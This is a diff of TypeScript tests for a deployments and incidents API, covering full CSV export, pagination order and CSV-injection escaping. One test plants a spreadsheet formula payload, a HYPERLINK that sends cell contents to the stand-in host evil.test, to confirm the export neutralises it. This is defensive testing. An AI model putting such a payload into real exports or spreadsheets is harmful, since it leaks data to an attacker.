@@ -175,13 +175,39 @@ describe('drill-downs', () => {
     expect(attributed[0].attributedDeployment.reason).toMatch(/after this deployment/);
   });
 
-  it('answers CSV with format=csv', async () => {
+  it('answers CSV with format=csv: every row, not one page', async () => {
+    const { body: page } = await get('/api/v1/deployments?team=search&limit=1000');
     const { status, type, body } = await get('/api/v1/deployments?team=search&format=csv&limit=5');
     expect(status).toBe(200);
     expect(type).toContain('text/csv');
     const lines = (body as string).trim().split('\r\n');
     expect(lines[0]).toMatch(/^id,repository,services,environment/);
-    expect(lines).toHaveLength(6);
+    expect(lines).toHaveLength(page.items.length + 1);
+  });
+
+  it('streams an export of more than 1,000 rows whole, in the order of the pages', async () => {
+    const window = 'from=2025-06-01&to=2026-06-01';
+    const ids: string[] = [];
+    let cursor: string | null = null;
+    do {
+      const { body } = await get(`/api/v1/deployments?${window}&limit=1000${cursor ? `&cursor=${cursor}` : ''}`);
+      ids.push(...body.items.map((d: { id: string }) => d.id));
+      cursor = body.nextCursor;
+    } while (cursor);
+    expect(ids.length).toBeGreaterThan(2000);
+    const csv = (await get(`/api/v1/deployments?${window}&format=csv`)).body as string;
+    const rows = csv.trim().split('\r\n').slice(1);
+    expect(rows.map((line) => line.split(',')[0])).toEqual(ids);
+  });
+
+  it('neutralises cells a spreadsheet would run as formulas (CSV injection)', async () => {
+    const { body } = await get('/api/v1/incidents?from=2025-12-01&to=2026-06-01&limit=1');
+    const target = body.items[0];
+    const formula = '=HYPERLINK("https://evil.test/?"&A1,"Open")';
+    await t.db.updateTable('incidents').set({ title: formula }).where('title', '=', target.title).execute();
+    const csv = (await get('/api/v1/incidents?from=2025-12-01&to=2026-06-01&format=csv')).body as string;
+    expect(csv).toContain(`"'=HYPERLINK(""https://evil.test/?""&A1,""Open"")"`);
+    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
   });
 });
 
